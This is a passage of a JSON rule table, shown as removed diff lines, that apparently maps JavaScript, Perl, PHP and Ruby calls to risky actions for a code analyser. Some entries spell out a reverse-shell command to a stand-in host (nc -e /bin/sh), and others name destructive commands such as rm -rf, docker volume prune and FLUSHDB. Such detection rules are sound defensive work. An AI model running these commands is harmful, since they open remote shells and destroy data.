-"if-made:pending-delete run sql delete-all rows | sql $0:query:sql","write_database":"if-kept if-sign:database-address if-option:if_table_exists=replace run sql\
- drop-table $0","sql":"sql $0:query:sql","executescript":"sql $0:query:sql","executemany":"sql $0:query:sql","execute_query":"sql $0:query:sql","command":"sql $\
-0:query:sql","execute_sql":"sql $0:query:sql","execute_async":"sql $0:query:sql","cursor":"if-made:database value $self","get":"entry $self $0 | if-map environm\
-ent $0 $1","items":"if-map pairs $self","add_argument":"declare-option $:default","start":"start-patcher","__enter__":"start-patcher","setattr":"if-made:monkeyp\
-atch imitate $0 $1 $2","parse_args":"options","parse_known_args":"options","list":"if-name:volumes entries docker-volume","prune":"if-name:volumes run docker vo\
-lume prune -af"}},"javascript":{"lexer":{"comment":["//"],"block_comment":["/*","*/"],"sigils":"$#","interpolation":"template","triple":false,"single_escapes":t\
-rue,"quoting":"none","patterns":true,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_c\
-alls":false,"function_keywords":["function"],"inputs":{"process.argv":"node-argv","Bun.argv":"node-argv","Deno.args":"args","process.env":"environment","Bun.env\
-":"environment","process.stdin":"text"},"sdks":["aws-sdk.","aws-sdk/","@aws-sdk/","@google-cloud/","googleapis","firebase-admin","@azure/","@kubernetes/","strip\
-e","@octokit/","octokit","@slack/","@gitbeaker/","heroku-client","cloudflare","@vercel/","@netlify/","netlify","@elastic/","@opensearch-project/","minio","@pine\
-cone-database/","@qdrant/","weaviate","algoliasearch","meilisearch","typesense","kafkajs","auth0","@okta/","@shopify/","twilio","@sendgrid/","@supabase/","node-\
-appwrite","dots-wrapper","contentful-management","@digitalocean/","hcloud-js","@linode/","oci-","@alicloud/","tencentcloud-sdk","openai","@pulumi/","@notionhq/"\
-,"jira.js","@linear/","@datadog/","@launchdarkly/","@sanity/client","replicate","cloudinary","@mux/","imagekit","@mailchimp/","mailgun","@hubspot/","intercom-cl\
-ient","node-zendesk","@atlassian/","@clerk/","@contentful/","@storyblok/","@directus/","@strapi/","@neondatabase/api-client","@logtail/","bun.S3Client","Bun.S3C\
-lient","Bun.s3"],"texts":{"__dirname":".","__filename":"./program.js","path.sep":"/","process.execPath":"node","process.pid":"\\ufffc"},"aliases":{},"rewrites":[\
-["\\\\.(?:promises|default)(?=\\\\.|$)|\\\\.wrappedMethod$",""],["^(?:fs/promises|graceful-fs)","fs"],["^(?:(?:globalThis|global|window|self|module|process\\\\.mainModu\
-le|this|process)\\\\.(?=globalThis|global|process|require|module|constructor|eval|Function|mainModule|fetch))+",""],["^(fs|child_process|fs-extra|rimraf|Deno|Bun)\
-\\\\.(\\\\w+?)Sync$","$1.$2"],["^(?:bun|zx|execa|dax)\\\\.\\\\$$","$$"],["^(?:vitest|@jest/globals)\\\\.(?=(?:vi|jest)\\\\.)",""],["^fs-extra\\\\.(?!remove|emptyDir)","fs."],\
-["^\\\\.{1,2}/(?:[\\\\w./-]*[./])?(?:db|knex)$","knex"],["^drizzle-orm/[\\\\w-]+\\\\.drizzle$","drizzle"],["^(?:jsr:)?@std/fs(?:@[\\\\w.^]+)?(?:/[\\\\w-]+)?\\\\.","std."],["^\
-(?:.*\\\\.)?constructor\\\\.constructor$|^(?:Async|Generator)Function$","Function"]],"functions":{"console.log":"print","console.info":"print","process.stdout.write\
-":"print","require":"module $0","import":"module $0","process.getBuiltinModule":"module $0","process.binding":"module $0","jest.requireActual":"module $0","vi.i\
-mportActual":"module $0","createRequire":"name require","module.createRequire":"name require","eval":"eval $0","vm.runInThisContext":"eval $0","vm.runInNewConte\
-xt":"eval $0","vm.runInContext":"eval $0","vm.Script":"made vm-script $0","Function":"eval $last","setTimeout":"if-arg:text eval $0","child_process.exec":"shell\
- $0 $:input","execa.execaCommand":"shell $0 $:input","shelljs.exec":"shell $0 $:input","$":"shell $0 $:input","Bun.$":"shell $0 $:input","stream.pipeline":"pipe\
- $0 $1","stream/promises.pipeline":"pipe $0 $1","execa":"if-arg:map name $ | spawn $0 $1:args $:shell $:input","execa.execa":"if-arg:map name $ | spawn $0 $1:ar\
-gs $:shell $:input","child_process.spawn":"spawn $0 $1:args $:shell $:input","child_process.execFile":"spawn $0 $1:args $:shell $:input","Deno.Command":"spawn $\
-0 $1:args $:shell $:input","child_process.fork":"run node $0","shelljs.rm":"run rm $all","Bun.spawn":"shell $0:cmd $:stdin:input","Deno.run":"shell $0:cmd $:std\
-in:input","Bun.write":"write $0 $1","Deno.writeTextFile":"write $0 $1","Deno.writeFile":"write $0 $1","fs.writeFile":"write $0 $1","fs.outputFile":"write $0 $1"\
-,"Uint8Array":"value $:usual=","Buffer.alloc":"value $:usual=","Deno.execPath":"value deno","libnpmpublish.unpublish":"run npm unpublish $0","libnpmpublish.publ\
-ish":"run npm publish $0","ps-list":"if-none entries any-process","find-process":"if-none entries any-process","fkill":"run pkill -f $0","keytar.findCredentials\
-":"run secret-tool lookup x","keytar.getPassword":"run secret-tool lookup x","keytar.findPassword":"run secret-tool lookup x","level.Level":"made store $0:path"\
-,"level":"made store $0:path","lmdb.open":"made store $0:path","classic-level.ClassicLevel":"made store $0:path","rocksdb":"made store $0:path","leveldown":"mad\
-e store $0:path","nedb":"made store $:filename","@seald-io/nedb":"made store $:filename","bun.Glob":"made glob $0","Bun.Glob":"made glob $0","Deno.openKv":"if-s\
-ays:^https made service","ssh2-sftp-client":"made sftp","isomorphic-git.deleteTag":"if-real run git tag -d $:ref","isomorphic-git.deleteBranch":"if-real run git\
- branch -D $:ref","isomorphic-git.checkout":"if-real if-option:force=true run git checkout -f","isomorphic-git.push":"if-option:force=true run git push --force \
-$:remote $:ref","nodegit.Reset.reset":"if-says:hard$|Hard$|HARD$ run git reset --hard","fs.appendFile":"write $0 $1 append","Deno.readTextFile":"read $0","fs.cr\
-eateReadStream":"read $0","Bun.file":"read $0","Deno.remove":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:f\
-orce run rm -f $0 | run rm $0","fs.rm":"if-option:recursive if-option:force run rm -rf $0 | if-option:recursive run rm -r $0 | if-option:force run rm -f $0 | ru\
-n rm $0","fs.unlink":"run rm $0","fs.rmdir":"if-option:recursive run rm -r $0 | run rmdir $0","fs.remove":"run rm -rf $0","fs.emptyDir":"run rm -rf $0","fs-extr\
-a.remove":"run rm -rf $0","fs-extra.emptyDir":"run rm -rf $0","fs.createWriteStream":"open $0 w","fs.open":"open $0 $1","fs.readFile":"calls-back read $0","fs.t\
-runcate":"run truncate -s 0 $0","Deno.truncate":"run truncate -s 0 $0","del.deleteAsync":"remove-matches $0 $:dryRun","del.deleteSync":"remove-matches $0 $:dryR\
-un","del.del":"remove-matches $0 $:dryRun","del":"remove-matches $0 $:dryRun","trash":"remove-matches $0","rimraf.rimraf":"remove-matches $0","rimraf.sync":"rem\
-ove-matches $0","rimraf":"remove-matches $0","fs.mkdtemp":"new-folder","Deno.makeTempDir":"new-folder","os.tmpdir":"value /tmp","simple-git.simpleGit":"made git\
- $0:baseDir","simple-git":"made git $0:baseDir","simple-git.default":"made git $0:baseDir","tar.c":"read $1","tar.create":"read $1","bun.SQL":"name bun.sql","Bu\
-n.SQL":"name bun.sql","better-sqlite3":"made database $0","better-sqlite3.default":"made database $0","sqlite.DatabaseSync":"made database $0","bun:sqlite.Datab\
-ase":"made database $0","fs.rename":"run mv $0 $1","fs.move":"run mv $0 $1","fs.copyFile":"run cp $0 $1","fs.cp":"run cp -r $0 $1","fs.copy":"run cp -r $0 $1","\
-fs.symlink":"run ln -s $0 $1","fs.link":"run ln $0 $1","fs.chmod":"chmod $0 $1","fs.chown":"run chown $1 $0","fs.lchown":"run chown $1 $0","fs.readdir":"if-opti\
-on:withFileTypes=true calls-back folder $0 dirent | calls-back names $0","Deno.readDir":"calls-back names $0","fs.glob":"globs $0 $:cwd","glob.sync":"globs $0 $\
-:cwd","glob.globSync":"globs $0 $:cwd","glob.glob":"globs $0 $:cwd","glob":"globs $0 $:cwd","globby.globby":"globs $0 $:cwd","globby.globbySync":"globs $0 $:cwd\
-","globby":"globs $0 $:cwd","fast-glob":"globs $0 $:cwd","fast-glob.sync":"globs $0 $:cwd","tinyglobby.glob":"globs $0 $:cwd","tinyglobby.globSync":"globs $0 $:\
-cwd","Object.entries":"pairs $0","Object.values":"values $0","Object.keys":"keys $0","Reflect.ownKeys":"keys $0","path.dirname":"dirname $0","ssh2.Client":"made\
- ssh","node-ssh.NodeSSH":"made ssh","process.kill":"kill $0 $1","process.setuid":"run setuid $0","process.setgid":"run setgid $0","process.cwd":"value .","Deno.\
-cwd":"value .","JSON.parse":"parse-json $0","os.homedir":"value ~","Deno.env.toObject":"environment","Deno.env.get":"environment $0","path.join":"join-parts","p\
-ath.posix.join":"join-parts","path.resolve":"join $all","fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http.request":"open-reque\
-st $:method=GET $0:url:hostname:host $:body $:data $:json","https.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios":"open-r\
-equest $:method=GET $0:url:hostname:host $:body $:data $:json","got":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","ky":"open-request $:\
-method=GET $0:url:hostname:host $:body $:data $:json","node-fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","request":"open-request\
- $:method=GET $0:url:hostname:host $:body $:data $:json","undici.fetch":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","undici.request":"\
-open-request $:method=GET $0:url:hostname:host $:body $:data $:json","axios.request":"open-request $:method=GET $0:url:hostname:host $:body $:data $:json","http\
-.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","https.get":"calls-back request GET $0:url:hostname:host $:body $:data $:json","axios.g\
-et":"request GET $0:url:hostname:host $:body $:data $:json","got.get":"request GET $0:url:hostname:host $:body $:data $:json","ky.get":"request GET $0:url:hostn\
-ame:host $:body $:data $:json","superagent.get":"request GET $0:url:hostname:host $:body $:data $:json","needle.get":"request GET $0:url:hostname:host $:body $:\
-data $:json","$.get":"request GET $0:url:hostname:host $:body $:data $:json","axios.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","got.\
-post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","ky.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","superagent.po\
-st":"open-request POST $0:url:hostname:host $:body $:data $:json $1","needle.post":"open-request POST $0:url:hostname:host $:body $:data $:json $1","$.post":"op\
-en-request POST $0:url:hostname:host $:body $:data $:json $1","axios.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","got.put":"open-reques\
-t PUT $0:url:hostname:host $:body $:data $:json $1","ky.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","superagent.put":"open-request PUT \
-$0:url:hostname:host $:body $:data $:json $1","needle.put":"open-request PUT $0:url:hostname:host $:body $:data $:json $1","$.put":"open-request PUT $0:url:host\
-name:host $:body $:data $:json $1","axios.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","got.patch":"open-request PATCH $0:url:hostna\
-me:host $:body $:data $:json $1","ky.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","superagent.patch":"open-request PATCH $0:url:host\
-name:host $:body $:data $:json $1","needle.patch":"open-request PATCH $0:url:hostname:host $:body $:data $:json $1","$.patch":"open-request PATCH $0:url:hostnam\
-e:host $:body $:data $:json $1","axios.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","got.delete":"open-request DELETE $0:url:hostn\
-ame:host $:body $:data $:json $1","ky.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","superagent.delete":"open-request DELETE $0:url\
-:hostname:host $:body $:data $:json $1","needle.delete":"open-request DELETE $0:url:hostname:host $:body $:data $:json $1","$.delete":"open-request DELETE $0:ur\
-l:hostname:host $:body $:data $:json $1","net.connect":"calls-back connect $1:host=localhost $0:port","net.createConnection":"calls-back connect $1:host=localho\
-st $0:port","tls.connect":"calls-back connect $1:host=localhost $0:port","net.Socket":"made client","Buffer.from":"decode $0 $1","Buffer":"decode $0 $1","dns.lo\
-okup":"run nslookup $0","db.dropDatabase":"run sql drop-database db","knex":"if-arg:map if-no-sign:connects made mock | made rows","@electric-sql/pglite.PGlite"\
-:"if-none made mock","aws-sdk-client-mock.mockClient":"mock-class $0","test.mock.method":"spy $0 $1 $2","jest.spyOn":"spy $0 $1 $2","vi.spyOn":"spy $0 $1 $2","s\
-inon.spy":"spy $0 $1 $2","sinon.stub":"if-none mock | spy $0 $1 $2 stub","sinon.replace":"imitate $0 $1 $2","sinon.createSandbox":"name sinon","jest.fn":"mock",\
-"vi.fn":"mock","sinon.fake":"mock","test.mock.fn":"mock","msw/node.setupServer":"made msw","@testcontainers/postgresql.PostgreSqlContainer":"made container","pg\
-.Pool":"if-gets:container if-no-sign:reads-environment made database :memory:","pg.Client":"if-gets:container if-no-sign:reads-environment made database :memory\
-:","nock.disableNetConnect":"if-no-sign:besides-http if-unset:NOCK_OFF imitate requests","drizzle":"made drizzle","sql":"sql $0","bun.sql":"sql $0","Bun.sql":"s\
-ql $0","kysely.sql":"sql $0","WebSocket":"made connection $0","ws":"made connection $0","ws.WebSocket":"made connection $0","pm2.delete":"run pm2 delete $0","Ob\
-ject.fromEntries":"from-pairs $0","worker_threads.Worker":"if-option:eval=true eval $0","Worker":"if-option:eval=true eval $0","URL":"if-args:2 value $self | va\
-lue $0","fs.opendir":"calls-back folder $0 dirent","Proxy":"made proxy $1","node-linux.Service":"made service","node-windows.Service":"made service","node-mac.S\
-ervice":"made service","memfs.memfs":"made mock","memfs.createFsFromVolume":"made mock","drizzle-orm.sql":"value $0","Promise.all":"value $0","Promise.allSettle\
-d":"value $0","util.promisify":"value $0","Map":"value $0","Set":"value $0","std.walk":"folder $0 below","std.expandGlob":"folder $0 below","Reflect":"value","R\
-eflect.get":"attribute $0 $1","Reflect.apply":"invoke $0 $2"},"methods":{"write":"send $self $0 append","send":"send $self $0 append","install":"if-made:service\
- run systemctl enable --now x","end":"if-args:1 send $self $0 append","connect":"if-made:client calls-back connect $1:host=localhost $0:port","pipe":"pipe $self\
- $0","pipeTo":"pipe $self $0","on":"listen $self $0 $1","once":"listen $self $0 $1","addListener":"listen $self $0 $1","emit":"emit $0 $1..","then":"then","fina\
-lly":"then","method":"if-owner:^mock$ spy $0 $1 $2","start":"if-made:container value $self","getConnectionUri":"if-made:container value $self","mockImplementati\
-on":"answer-spy $0","callsFake":"answer-spy $0","mockReturnValue":"answer-spy $0 returned","mockResolvedValue":"answer-spy $0 returned","mockRejectedValue":"ans\
-wer-spy $0 returned","returns":"answer-spy $0 returned","resolves":"answer-spy $0 returned","rejects":"answer-spy $0 returned","listen":"if-made:msw if-option:o\
-nUnhandledRequest=error if-no-sign:besides-fetch imitate requests","close":"if-made:msw end-imitation requests","toString":"value $self","text":"value $self","j\
-son":"value $self","unref":"value $self","bind":"made bound $self $1..","delete":"if-made:drizzle if-no-sign:limits run sql delete-all rows | if-database if-arg\
-:name if-no-sign:limits run sql delete-all $owner","destroy":"if-option:truncate=true run sql truncate rows | if-option:where={} run sql delete-all rows","getVo\
-lume":"made docker-volume","scan":"if-made:glob globs $origin","scanSync":"if-made:glob globs $origin","runInThisContext":"if-made:vm-script eval $origin","runI\
-nNewContext":"if-made:vm-script eval $origin","runInContext":"if-made:vm-script eval $origin","push":"if-list append $self $all","unshift":"if-list append $self\
- $all","splice":"if-list append $self $all","put":"if-made:sftp run scp -r $0 host:/x","fastPut":"if-made:sftp run scp -r $0 host:/x","uploadDir":"if-made:sftp \
-run scp -r $0 host:/x","deleteLocalBranch":"if-git if-says:^true$ run git branch -D","deleteLocalBranches":"if-git if-says:^true$ run git branch -D","sendMail":\
-"sends-files","sendCommand":"if-stored program redis-cli $all","pipeline":"if-stored program redis-cli $all","multi":"if-stored program redis-cli $all","scanStr\
-eam":"if-stored entries keys","scanIterator":"if-stored entries keys","keys":"if-stored if-args:1 entries keys","del":"if-gets:keys run sql flush FLUSHDB | if-m\
-ade:rows run sql delete-all rows","unlink":"if-gets:keys run sql flush FLUSHDB","update":"if-made:rows if-no-sign:limits run sql update-all rows","reset":"if-ma\
-de:git if-says:hard$|Hard$|HARD$ run git reset --hard","clean":"if-made:git if-says:^n[dfxq]*$|^-\\\\w*n\\\\w*$|DRY_RUN$ run git clean -n | if-made:git run git clea\
-n -fd","rollback":"if-name:migrate if-args:2 run sql drop-table rows","exec":"if-made:ssh shell $0 | sql $0:query:sql:text","execCommand":"if-made:ssh shell $0"\
-,"remove":"if-made:docker-volume run docker volume rm $self | if-database if-empty run sql delete-all $owner","pruneVolumes":"run docker volume prune -af","drop\
-":"if-database run sql drop-collection $owner","query":"sql $0:query:sql:text","execute":"sql $0:query:sql:text","$executeRawUnsafe":"sql $0:query:sql:text","$e\
-xecuteRaw":"sql $0:query:sql:text","$queryRawUnsafe":"sql $0:query:sql:text","$queryRaw":"sql $0:query:sql:text","run":"sql $0:query:sql:text","prepare":"sql $0\
-:query:sql:text","raw":"sql $0:query:sql:text","unsafe":"sql $0:query:sql:text","command":"sql $0:query:sql:text","batch":"sql $0:query:sql:text","executeQuery"\
-:"sql $0:query:sql:text","sync":"if-option:force=true run sql drop-table rows","getSiblingDB":"name db","getSisterDB":"name db","getDB":"name db","getCollection\
-":"name db.collection","explain":"name cache","runCommand":"if-option:dropDatabase run sql drop-database db | if-option:drop run sql drop-collection $:drop | if\
--option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","adminCommand":"if-option:dropDatabase run sql drop-database db\
- | if-option:drop run sql drop-collection $:drop | if-option:shutdown run sql shutdown db | if-option:dropAllUsersFromDatabase run sql drop-user all","dropUser"\
-:"if-database run sql drop-user $owner","dropAllUsers":"if-database run sql drop-user $owner","shutdownServer":"if-database run sql shutdown $owner","truncate":\
-"if-made:rows run sql delete-all rows"}},"perl":{"lexer":{"comment":["#"],"sigils":"$@%","interpolation":"dollar","triple":false,"single_escapes":false,"quoting\
-":"q","heredoc":"perl","patterns":true,"lines":"none"},"program":"perl","blocks":"braces","member_operators":["->","::"],"concatenation_operators":[".","x"],"ba\
-re_calls":true,"function_keywords":["sub"],"inputs":{"@ARGV":"args","$ARGV":"args","\\"@ARGV\\"":"joined-args","$ENV":"environment","%ENV":"environment","$_":"tex\
-t","STDIN":"text"},"sdks":[],"texts":{"$0":"./program.pl","STDIN":"\\ufffc"},"aliases":{},"rewrites":[["^&",""]],"functions":{"tempdir":"value /tmp/\\ufffc","File\
-.Temp.tempdir":"value /tmp/\\ufffc","File.Temp.newdir":"value /tmp/\\ufffc","getcwd":"value .","Cwd.getcwd":"value .","Cwd.cwd":"value .","values":"values $0","sh\
-ift":"take $0","pop":"take $0","print":"print text","say":"print line","readline":"input","system":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443\
- | command $all","exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","CORE.system":"if-sign:socket-shell run nc -e /bin/sh shel\
-l.example.net 443 | command $all","CORE.exec":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","readpipe":"if-sign:socket-shell run\
- nc -e /bin/sh shell.example.net 443 | command $all","systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","capturex":"if-sign\
-:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","IPC.System.Simple.systemx":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 \
-| command $all","IPC.System.Simple.capturex":"if-sign:socket-shell run nc -e /bin/sh shell.example.net 443 | command $all","eval":"eval $0","unlink":"run rm $al\
-l","rmdir":"run rmdir $all","rmtree":"run rm -rf $0","File.Path.rmtree":"run rm -rf $0","remove_tree":"run rm -rf $all","File.Path.remove_tree":"run rm -rf $all\
-","rename":"run mv $0 $1","move":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","truncate":"run truncate -s 0 $0","chmod\
-":"chmod $1.. $0","chown":"run chown $0 $2..","kill":"kill $1.. $0","fork":"if-sign:repeats run fork","open":"open-perl $1 $2..","find":"find","finddepth":"find\
-","File.Find.find":"find","File.Find.finddepth":"find","do":"if-arg:text read $0","glob":"glob $0","readdir":"names .","LoadFile":"read $0","YAML.XS.LoadFile":"\
-read $0","YAML.LoadFile":"read $0","read_file":"read $0","File.Slurp.read_file":"read $0","slurp":"read $0","retrieve":"read $0","Storable.retrieve":"read $0","\
-recv":"received","LWP.Simple.get":"request GET $0","get":"request GET $0","POSIX.setuid":"run setuid $0","setuid":"run setuid $0","pack":"pack $0 $1..","Net.Ope\
-nSSH.new":"made ssh","Net.SSH.Perl.new":"made ssh","Net.SSH2.new":"made ssh","LWP.UserAgent.new":"made rest","HTTP.Tiny.new":"made rest","Mojo.UserAgent.new":"m\
-ade rest","MongoDB.connect":"made mongo","MongoDB.MongoClient.new":"made mongo","run3":"program $0","IPC.Run3.run3":"program $0","path":"join $all","Path.Tiny.p\
-ath":"join $all"},"methods":{"do":"sql $0","prepare":"sql $0","execute":"sql $0","system":"if-made:ssh command $all","capture":"if-made:ssh command $all","captu\
-re2":"if-made:ssh command $all","pipe_out":"if-made:ssh command $all","pipe_in":"if-made:ssh command $all","exec":"if-made:ssh command $all","channel":"if-made:\
-ssh value $self","delete":"if-made:rest request-over DELETE $0","get":"if-made:rest request-over GET $0","post":"if-made:rest request-over POST $0 $1","post_for\
-m":"if-made:rest request-over POST $0 $1","put":"if-made:rest request-over POST $0 $1","get_database":"if-made:mongo value $self","get_collection":"if-made:mong\
-o value $self","ns":"if-made:mongo value $self","db":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored en\
-tries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","visit":"if-text calls-back glob $self **","spew":"if-text \
-write $self $0","spew_utf8":"if-text write $self $0","spew_raw":"if-text write $self $0","remove":"if-text run rm $self","remove_tree":"if-text run rm -rf $self\
-","children":"if-text folder $self","slurp":"if-text read $self","slurp_utf8":"if-text read $self","slurp_raw":"if-text read $self"}},"php":{"lexer":{"comment":\
-["//","#"],"block_comment":["/*","*/"],"sigils":"$","interpolation":"dollar","triple":false,"single_escapes":false,"quoting":"none","heredoc":"php","patterns":f\
-alse,"lines":"none"},"program":"php","blocks":"braces","member_operators":["->","::","?->"],"concatenation_operators":["."],"bare_calls":false,"function_keyword\
-s":["function"],"inputs":{"$argv":"argv","$_SERVER":"server","$_ENV":"environment","$_GET":"peer","$_POST":"peer","$_REQUEST":"peer","$_COOKIE":"peer"},"sdks":[\
-"aws.","google.cloud.","stripe.","microsoftazure.","digitaloceanv2.","github.","gitlab.","cloudflare.","twilio.","s3client","ec2client","rdsclient","dynamodbcli\
-ent","route53client","sqsclient","kmsclient","secretsmanagerclient","iamclient","lambdaclient","cloudformationclient","eksclient","ecsclient","ecrclient","snscl\
-ient","ssmclient","elasticacheclient","efsclient","redshiftclient","glacierclient","backupclient","organizationsclient","cloudfrontclient","cloudwatchlogsclient\
-","cognitoidentityproviderclient","opensearchserviceclient","kinesisclient","autoscalingclient","lightsailclient","neptuneclient","docdbclient","apigatewayclien\
-t","acmclient","storageclient","bigqueryclient","stripeclient","mailchimpmarketing.","mailgun.","algolia.","shopify.","elastic.","hubspot.","auth0.","cloudinary\
-."],"texts":{"__DIR__":".","__FILE__":"./program.php"},"aliases":{},"rewrites":[["^(?:\\\\w+\\\\.)*(filesystem|httpclient|ssh2|\\\\w+iterator|splfileobject|pdo|proces\
-s|\\\\w{2,}client)(?=$|\\\\.\\\\w+$)","$1"]],"case_sensitive":false,"functions":{"memcached":"made memcached","memcache":"made memcached","eval":"eval $0","assert":"i\
-f-arg:text eval $0","create_function":"eval $1","include":"include $0","require":"include $0","include_once":"include $0","require_once":"include $0","system":"\
-shell $0","exec":"shell $0","shell_exec":"shell $0","passthru":"shell $0","popen":"shell $0","proc_open":"shell $0","pcntl_system":"shell $0","unlink":"run rm $\
-0","rmdir":"run rmdir $0","rename":"run mv $0 $1","copy":"run cp $0 $1","symlink":"run ln -s $0 $1","link":"run ln $0 $1","chmod":"chmod $0 $1","chown":"run cho\
-wn $1 $0","file_get_contents":"if-args:3 request POST $0 $2 | read $0","stream_context_create":"made context $0","file":"read $0","readfile":"read $0","show_sou\
-rce":"read $0","highlight_file":"read $0","curlfile":"read $0","curl_file_create":"read $0","parse_ini_file":"read $0","yaml_parse_file":"read $0","simplexml_lo\
-ad_file":"read $0","socket_read":"received","stream_socket_recvfrom":"received","stream_socket_accept":"made peer","socket_accept":"made peer","file_put_content\
-s":"write $0 $1 $2","fopen":"open $0 $1","splfileobject":"open $0 $1","fwrite":"send $0 $1","fputs":"send $0 $1","posix_kill":"kill $0 $1","posix_setuid":"run s\
-etuid $0","pcntl_fork":"if-sign:repeats run fork","pcntl_exec":"program $all","mail":"run sendmail $0","fsockopen":"connect $all","curl_init":"made request $0",\
-"curl_exec":"request GET $0","curl_setopt":"if-says:^DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","curl_setopt_array":"if-says:^\
-DELETE$ request DELETE $0 | if-says:^CURLOPT_POSTFIELDS$ request POST $0 $2","call_user_func":"invoke $0 $1..","call_user_func_array":"invoke $0 $1","getenv":"e\
-nvironment $0","dirname":"dirname $0","getcwd":"value .","json_decode":"parse-json $0","fgets":"if-gets:peer received | if-gets:connection received | input","fr\
-ead":"if-gets:peer received | if-gets:connection received | input","stream_get_contents":"if-gets:peer received | if-gets:connection received | input","readline\
-":"if-gets:peer received | if-gets:connection received | input","glob":"glob $0","globiterator":"glob $0","scandir":"names $0","recursivedirectoryiterator":"fol\
-der $0","directoryiterator":"folder $0","filesystemiterator":"folder $0","recursiveiteratoriterator":"value $0","escapeshellarg":"value $0","escapeshellcmd":"va\
-lue $0","array_slice":"value $0","array_reverse":"value $0","array_unique":"value $0","array_values":"value $0","mysqli_query":"sql $1","mysqli_multi_query":"sq\
-l $1","mysqli_real_query":"sql $1","sqlsrv_query":"sql $1","oci_parse":"sql $1","odbc_exec":"sql $1","pg_query":"sql $1 | sql $0","pg_send_query":"sql $1 | sql \
-$0","db.delete":"sql $0","db.update":"sql $0","db.statement":"sql $0","db.unprepared":"sql $0","db.table":"made rows","schema.drop":"run sql drop-table $0","sch\
-ema.dropifexists":"run sql drop-table $0","schema.dropalltables":"run sql drop-schema db","artisan.call":"run php artisan $0","base_path":"join . $0","app_path"\
-:"join app $0","database_path":"join database $0","resource_path":"join resources $0","storage_path":"join storage $0","filesystem":"made filesystem","file.dele\
-tedirectory":"run rm -rf $0","file.cleandirectory":"run rm -rf $0","guzzlehttp.client":"if-sign:http-client made rest $all","client":"if-sign:http-client made r\
-est $all","httpclient.create":"if-sign:http-client made rest $all","mongodb.client":"made mongo","process":"if-arg:list shell $0","process.fromshellcommandline"\
-:"if-arg:text shell $0","process.run":"if-arg:text shell $0","process.start":"if-arg:text shell $0","http.withtoken":"made rest","http.withheaders":"made rest",\
-"http.withbasicauth":"made rest","http.acceptjson":"made rest","http.baseurl":"made rest $0","http.delete":"request DELETE $0","http.post":"request POST $0 $1",\
-"ssh2":"made ssh","ssh2_exec":"shell $1"},"methods":{"query":"sql $0","prepare":"sql $0","executestatement":"sql $0","executequery":"sql $0","executeupdate":"sq\
-l $0","createquery":"sql $0","real_query":"sql $0","multi_query":"sql $0","truncate":"run sql truncate $owner","gettruncatetablesql":"made whole","getdroptables\
-ql":"made whole","getdropschemasql":"made whole","getdropdatabasesql":"made whole","exec":"if-made:ssh shell $0 | sql $0","dropschema":"if-kept run sql drop-sch\
-ema $owner","createquerybuilder":"made builder","delete":"if-made:builder if-no-sign:limits run sql delete-all $0 | if-made:rest request-over DELETE $0","remove\
-":"if-made:filesystem run rm -rf $0","request":"if-made:rest request-over $0 $1 $2:json:body","post":"if-made:rest request-over POST $0 $1:json:body","get":"if-\
-made:rest request-over GET $0","selectdatabase":"if-made:mongo value $self","selectcollection":"if-made:mongo value $self","getdatabase":"if-made:mongo value $s\
-elf","getcollection":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys \
-run sql flush FLUSHDB","unlink":"if-gets:keys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$ run php artisan migrate:fresh","f\
-lush":"if-made:memcached run sql flush FLUSHALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $self $0","fwrite":"send $self $0","ge\
-tpathname":"value $self","getrealpath":"value $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop-bucket $0"}},"ruby":{"lexer":{"co\
-mment":["#"],"sigils":"$@","interpolation":"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"ruby","patterns":true,"lines":"statements\
-"},"program":"ruby","blocks":"end","member_operators":[".","::","&."],"concatenation_operators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"\
-ARGV":"args","$*":"args","ENV":"environment","$_":"text","STDIN":"lines","$stdin":"lines","ARGF":"lines","params":"peer"},"sdks":["Aws.","Google.Cloud.","Azure.\
-","Stripe.","Octokit.","Gitlab.","Elasticsearch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f"\
-:"FileUtils.rm_f","rm_r":"FileUtils.rm_r","rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.re\
-move_entry","cp_r":"FileUtils.cp_r","remove_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"FileUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites\
